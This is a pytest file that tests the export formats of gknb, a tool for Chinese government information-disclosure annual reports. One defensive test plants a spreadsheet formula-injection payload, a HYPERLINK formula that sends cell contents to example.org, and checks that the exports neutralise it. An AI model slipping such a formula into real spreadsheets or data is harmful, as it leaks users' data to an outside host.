"""Exports (CSV long/wide, XLSX, Parquet, JSON) and the JSON round trip into a fresh database."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

import gknb
from gknb.cli import app
from gknb.export import export, import_json
from gknb.pipeline.write import store_report
from gknb.store import Store
from storehelp import new_postgres_db, two_years

SAMPLES = Path(gknb.__file__).parent / "samples"
CORPUS = Path(__file__).parent / "corpus"


@pytest.fixture
def filled(tmp_path: Path) -> Store:
    store = Store.open(str(tmp_path / "e.db"))
    for path in sorted(SAMPLES.glob("*.txt")) + sorted(CORPUS.glob("*.txt"))[:4]:
        store_report(store, gknb.read(path), path.read_bytes())
    (text1, year1), (text2, year2) = two_years()
    store_report(store, year1, text1.encode())
    store_report(store, year2, text2.encode())
    return store


def snapshot(store: Store) -> list[tuple]:
    reports = [store.load(i) for i in store.report_ids()]
    return sorted(((r.source.sha256, r.meta.as_dict(), r.cells, [f.as_dict() for f in r.findings], r.sections)
                   for r in reports), key=lambda x: x[0])


def test_json_round_trip_into_a_fresh_database(filled: Store, tmp_path: Path,
                                               postgres_server: tuple[str, list[str]]) -> None:
    out = tmp_path / "all.json"
    assert export(filled, "json", out) == 9
    for url in (str(tmp_path / "fresh.db"), new_postgres_db(postgres_server)):
        fresh = Store.open(url)
        assert [s for _, s in import_json(fresh, out)] == ["stored"] * 9
        assert snapshot(fresh) == snapshot(filled)
        assert any(f["rule"] == "crossyear.carry_over" for *_, fs, _ in snapshot(fresh) for f in fs)
        assert {s for _, s in import_json(fresh, out)} == {"duplicate"}


def test_csv_long_and_wide(filled: Store, tmp_path: Path) -> None:
    long_path, wide_path = tmp_path / "long.csv", tmp_path / "wide.csv"
    export(filled, "csv-long", long_path)
    rows = list(csv.DictReader(long_path.open(encoding="utf-8-sig")))
    seed = [r for r in rows if r["agency"] == "庆祖镇政府"]
    secret = next(r for r in seed if r["key"] == "requests.withheld_state_secret.natural_person")
    assert secret["label"] == "（三）不予公开 1.属于国家秘密 · 自然人" and secret["year"] == "2021"
    report = gknb.read(SAMPLES / "000_a5586f6eb40696d9.txt")
    assert {r["key"]: r["value"] or None for r in seed} == {
        k: None if v is None else str(v) for k, v in report.cells.items()}
    export(filled, "csv-wide", wide_path, where={"year": "2023"})
    wide = list(csv.DictReader(wide_path.open(encoding="utf-8-sig")))
    assert len(wide) == 1 and wide[0]["agency"] == "青山县民政局"
    assert wide[0]["requests.new.total"] == str(two_years()[1][1].cells["requests.new.total"])


def test_xlsx_sheets_with_official_labels(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "all.xlsx"
    result = CliRunner().invoke(app, ["export", "--format", "xlsx", "-o", str(out), "--db", str(tmp_path / "e.db")])
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    assert book.sheetnames == ["报告", "二、主动公开", "三、依申请公开", "四、复议诉讼", "检查结果"]
    requests = book["三、依申请公开"]
    labels = [c.value for c in requests[1]]
    assert "一、本年新收政府信息公开申请数量 · 自然人" in labels and requests.freeze_panes == "D3"
    column = labels.index("一、本年新收政府信息公开申请数量 · 总计") + 1
    assert all(isinstance(requests.cell(row, column).value, (int, type(None))) for row in range(3, 12))
    assert requests.max_row == 2 + 9
    findings = book["检查结果"]
    levels = {row[2] for row in findings.iter_rows(min_row=3, values_only=True)}
    assert levels and levels <= {"错误", "警告", "提示"}, levels  # as a reader says them, not error/warning


def test_parquet(filled: Store, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "cells.parquet"
    export(filled, "parquet", out, where={"template": "2021"})
    table = pq.read_table(out).to_pylist()
    assert {r["template"] for r in table} == {"2021"}
    assert any(r["key"] == "requests.total.total" and r["label"] == "三、本年度办理结果 （七）总计 · 总计" for r in table)


def test_exports_neutralise_formulas_but_keep_numbers(tmp_path: Path) -> None:
    """An agency named like a formula is text in every export (XLSX cells typed as text, CSV with a
    leading apostrophe); negative numbers stay numbers."""
    from gknb.export import neutralised

    (text, report), _ = two_years("浙江省青山县民政局")
    evil = '=HYPERLINK("http://example.org/?"&A2,"点击")'
    report.meta.agency = evil
    store = Store.open(str(tmp_path / "f.db"))
    store_report(store, report, text.encode())
    export(store, "xlsx", tmp_path / "f.xlsx")
    book = load_workbook(tmp_path / "f.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == evil]
    assert len(cells) == 4 and {c.data_type for c in cells} == {"s"}
    for fmt in ("csv-wide", "csv-long"):
        export(store, fmt, tmp_path / f"{fmt}.csv")
        rows = list(csv.DictReader((tmp_path / f"{fmt}.csv").open(encoding="utf-8-sig")))
        assert {r["agency"] for r in rows} == {"'" + evil}
    assert neutralised({"a": "-3", "b": "-x", "c": "@SUM(A1)", "d": "\tx"}) == {"a": "-3", "b": "'-x", "c": "'@SUM(A1)",
                                                                                 "d": "'\tx"}
    store.close()
